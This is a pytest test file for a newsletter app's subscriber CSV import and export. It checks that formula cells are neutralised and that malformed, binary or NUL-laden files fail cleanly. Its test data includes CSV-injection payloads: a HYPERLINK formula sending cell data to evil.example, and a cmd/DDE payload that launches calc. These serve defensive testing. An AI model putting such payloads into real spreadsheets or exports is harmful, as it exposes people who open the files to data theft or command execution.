"""CSV in and out against hostile files: formula cells, a quote left open, random bytes, a directory."""

from __future__ import annotations

import csv
import io
import os
import re
import time
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select
from typer.testing import CliRunner

from mailer.db import new_session, session_scope
from newsletter.auth import create_user
from newsletter.cli import app
from newsletter.models import Role
from newsletter.web.app import create_app
from newsletter.web.ratelimit import reset
from subscribers import csvsafe, importer, mailing_lists, service
from subscribers.models import ConsentSource, ImportJob, Subscriber

runner = CliRunner()
FORMULAS = ['=HYPERLINK("https://evil.example/?"&A2,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
            "\t=1+1", "\r=1+1", "\uff1d1+1"]
PASSWORD = "correct horse battery staple"


@pytest.fixture
def weekly(db_url: str) -> str:
    with session_scope() as session:
        mailing_lists.create_list(session, "weekly", "Weekly", double_opt_in=False)
    return db_url


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(csvsafe.FORMULA_STARTS), (cell, row)


def _people() -> set[tuple[str, str]]:
    with session_scope() as session:
        return set(session.execute(select(Subscriber.email, Subscriber.name)).tuples())


def test_export_neutralises_formula_cells_and_imports_back_unchanged(weekly: str, tmp_path: Path) -> None:
    with session_scope() as session:
        mailing_list = mailing_lists.get_list(session, "weekly")
        for i, name in enumerate(FORMULAS):
            service.subscribe(session, mailing_list, f"f{i}@example.com", name, source=ConsentSource.FORM)
        service.subscribe(session, mailing_list, "-dash@example.com", "Dash", source=ConsentSource.FORM)
        mailing_lists.get_list(session, "weekly").double_opt_in = True
    people = _people()
    out = tmp_path / "export.csv"
    result = runner.invoke(app, ["subscribers", "export", "--list", "weekly", "--out", str(out)])
    assert result.exit_code == 0, result.output
    rows = _cells(out.read_text())
    _no_formula(rows)
    assert "'" + FORMULAS[0] in {r[1] for r in rows} and "'-dash@example.com" in {r[0] for r in rows}
    with session_scope() as session:  # the file read back gives the very same addresses and names
        for email, _name in people:
            subscriber = session.scalar(select(Subscriber).where(Subscriber.email == email))
            assert subscriber is not None
            subscriber.name = ""
    back = importer.import_csv(new_session, out, "weekly")
    assert (back.imported, back.errors) == (0, 0) and back.skipped == len(people)
    assert _people() == people


def test_the_import_report_neutralises_what_the_file_held(weekly: str, tmp_path: Path) -> None:
    path = tmp_path / "people.csv"
    path.write_text('email,name\n"=HYPERLINK(""https://evil.example"")",x\n@evil,y\n')
    result = importer.import_csv(new_session, path, "weekly")
    assert result.errors == 2
    _no_formula(_cells(result.report_path.read_text()))


def test_an_unterminated_quote_is_reported_row_by_row(weekly: str, tmp_path: Path) -> None:
    path = tmp_path / "people.csv"
    path.write_text('email,name\nann@example.com,Ann\nbob@example.com,"Bob\ncy@example.com,Cy\n'
                    "dee@example.com,Dee\n")
    result = importer.import_csv(new_session, path, "weekly")
    assert (result.imported, result.errors) == (1, 3)
    reasons = {int(r["line"]): (r["email"], r["reason"]) for r in importer.read_report(result.report_path)}
    assert sorted(reasons) == [3, 4, 5]
    assert reasons[3][0] == "bob@example.com" and reasons[4][0] == "cy@example.com,Cy"
    assert "quote" in reasons[5][1] and "line 3 to line 5" in reasons[5][1]
    with session_scope() as session:
        assert list(session.scalars(select(Subscriber.email))) == ["ann@example.com"]
    cli = runner.invoke(app, ["subscribers", "import", str(path), "--list", "weekly"])
    assert "imported 0, skipped 1, errors 3" in cli.output


def _jobs() -> list[str]:
    with session_scope() as session:
        return list(session.scalars(select(ImportJob.status)))


def test_random_bytes_or_a_directory_fail_cleanly_and_the_job_says_failed(weekly: str, tmp_path: Path) -> None:
    noise = tmp_path / "noise.csv"
    noise.write_bytes(os.urandom(64 * 1024).replace(b"\n", b"\xff") + b"\n" + os.urandom(4096))
    result = runner.invoke(app, ["subscribers", "import", str(noise), "--list", "weekly"])
    assert result.exit_code == 1 and isinstance(result.exception, SystemExit), result.output
    assert "not a UTF-8 text CSV file" in result.output
    assert _jobs() == ["failed"]
    nul = tmp_path / "nul.csv"
    nul.write_bytes(b"email\x00,name\nx@example.com,X\n")
    with pytest.raises(importer.ImportFileError):
        importer.import_csv(new_session, nul, "weekly")
    assert _jobs() == ["failed", "failed"]
    directory = runner.invoke(app, ["subscribers", "import", str(tmp_path), "--list", "weekly"])
    assert directory.exit_code == 1 and isinstance(directory.exception, SystemExit)
    assert "directory" in directory.output
    with pytest.raises(importer.ImportFileError, match="directory"):
        importer.import_csv(new_session, tmp_path, "weekly")
    assert _jobs() == ["failed", "failed"]


# Random bytes that start with one no UTF-8 text can start with: plain os.urandom began with a newline (an empty
# first line, answered as "empty file") or a short run of ASCII once in a few hundred runs, and the test failed.
BINARY = b"\x80" + os.urandom(32 * 1024)


def test_random_bytes_uploaded_in_the_admin_end_with_a_message(pg_url: str) -> None:
    reset()
    with session_scope() as session:
        create_user(session, "admin@example.com", PASSWORD, Role.ADMIN)
        mailing_lists.create_list(session, "weekly", "Weekly", double_opt_in=False)
    client = TestClient(create_app())
    token = re.search(r'name="csrf_token" value="([^"]+)"',  # type: ignore[union-attr]
                      client.get("/admin/login").text).group(1)
    client.post("/admin/login", data={"email": "admin@example.com", "password": PASSWORD, "csrf_token": token})
    started = client.post("/admin/import", data={"csrf_token": token, "list": "weekly"},
                          files={"file": ("people.csv", BINARY, "text/csv")},
                          follow_redirects=False)
    assert started.status_code == 303
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        page = client.get(started.headers["location"])
        if '<meta http-equiv="refresh"' not in page.text:
            break
        time.sleep(0.05)
    assert "not a UTF-8 text CSV file" in page.text and "Traceback" not in page.text
    assert _jobs() == ["failed"]


def test_cells_that_mean_something_to_copy_arrive_as_written(weekly: str, tmp_path: Path) -> None:
    """On PostgreSQL the rows travel as COPY text, where a backslash starts an escape, a tab ends a column,
    a line end ends a row and `\\N` means NULL: each must arrive as the person wrote it, on both databases."""
    names = ["\\N", "C:\\Users\\ann", "tab\there", "carriage\rreturn", "quote \" and \\\" mixed", "ümlaut ☃"]
    cities = ["\\N", "back\\slash", "tab\tcity", "{\"json\": 1}", "\\u00e9", ""]
    path = tmp_path / "escapes.csv"
    with path.open("w", newline="") as out:
        writer = csv.writer(out)
        writer.writerow(["email", "name", "city"])
        for i, (name, city) in enumerate(zip(names, cities, strict=True)):
            writer.writerow([f"esc{i}@example.com", name, city])
    result = importer.import_csv(new_session, path, "weekly", confirmed=True, consent_source="test")
    assert (result.imported, result.errors) == (len(names), 0)
    with session_scope() as session:
        stored = {email: (name, attributes) for email, name, attributes in session.execute(
            select(Subscriber.email, Subscriber.name, Subscriber.attributes)).tuples()}
    assert stored == {f"esc{i}@example.com": (name, {"city": city} if city else {})
                      for i, (name, city) in enumerate(zip(names, cities, strict=True))}


def test_a_nul_byte_in_a_row_skips_that_row_and_the_rest_are_imported(weekly: str, tmp_path: Path) -> None:
    """No database text can hold NUL; on PostgreSQL such a row used to stop the whole import with a traceback."""
    path = tmp_path / "nul.csv"
    path.write_bytes(b"email,name,city\nfirst@example.com,First,Oslo\nnul@example.com,Na\x00me,X\n"
                     b"nul2@exam\x00ple.com,N,X\nlast@example.com,Last,Rome\n")
    result = importer.import_csv(new_session, path, "weekly", confirmed=True, consent_source="test")
    assert (result.imported, result.errors) == (2, 2)
    reasons = {int(r["line"]): (r["email"], r["reason"]) for r in importer.read_report(result.report_path)}
    assert reasons == {3: ("nul@example.com", "holds a NUL byte (binary data, not text); row not imported"),
                       4: ("nul2@example.com", "holds a NUL byte (binary data, not text); row not imported")}
    assert _people() == {("first@example.com", "First"), ("last@example.com", "Last")}
